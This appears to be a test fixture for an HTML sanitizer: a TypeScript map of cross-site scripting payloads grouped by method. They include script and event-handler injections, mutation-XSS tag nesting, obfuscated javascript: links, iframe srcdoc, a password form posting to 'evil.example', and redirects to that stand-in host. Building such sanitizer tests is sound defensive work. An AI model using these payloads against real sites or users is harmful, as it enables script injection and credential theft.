/** Malicious markup, by its method of attack. Each would set `window.hacked` or become visible in the page. */
export const hostileHtml: Readonly<Record<string, string>> = {
  'a script': '<script>hacked=1</script>',
  'a picture that fails': '<img src=x onerror="hacked=1">',
  'a vector image': '<svg onload="hacked=1"><script>hacked=1</script></svg>',
  'mathematics around markup':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">',
  'markup that changes when it is read again': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>',
  'a template': '<template><img src=x onerror=hacked=1></template>',
  'a text without script': '<noscript><p title="</noscript><img src=x onerror=hacked=1>"></noscript>',
  'a handler on what may stand there':
    '<p onclick="hacked=1" onmouseover="hacked=1" onfocus=hacked=1 tabindex=0 autofocus>tekst</p>',
  'a frame': '<iframe src="javascript:hacked=1" srcdoc="<script>parent.hacked=1</script>"></iframe>',
  'an object': '<object data="javascript:hacked=1"></object><embed src="javascript:hacked=1">',
  'a form':
    '<form action="https://evil.example"><input name=password><button formaction="javascript:hacked=1">Log in</button></form>',
  styles: '<style>*{display:none}</style><link rel=stylesheet href="//evil.example"><p style="position:fixed;inset:0">tekst</p>',
  'the page': '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  'names of the page': '<p id="app" class="page" name="cookies">tekst</p><img name=body>',
  'a link to script':
    '<a href="javascript:hacked=1">klik</a><a href="JaVa&#9;ScRiPt:hacked=1">klik</a><a href=" javascript:hacked=1">klik</a>',
  'a link to data':
    '<a href="data:text/html,<script>hacked=1</script>">klik</a><a href="vbscript:x">klik</a><a href="blob:x">klik</a>',
  'a link to another site':
    '<a href="//evil.example">klik</a><a href="/\\evil.example">klik</a><a href="http://evil.example">klik</a>',
  'a window of ours by its name': '<a href="https://www.tureluur.example/service" target="opener" rel="opener">klik</a>',
  'markup that is not closed': '<p><strong><a href="https://www.tureluur.example/service" title="',
  'a custom element': '<x-a onclick=hacked=1 is="x-b">tekst</x-a>',
}
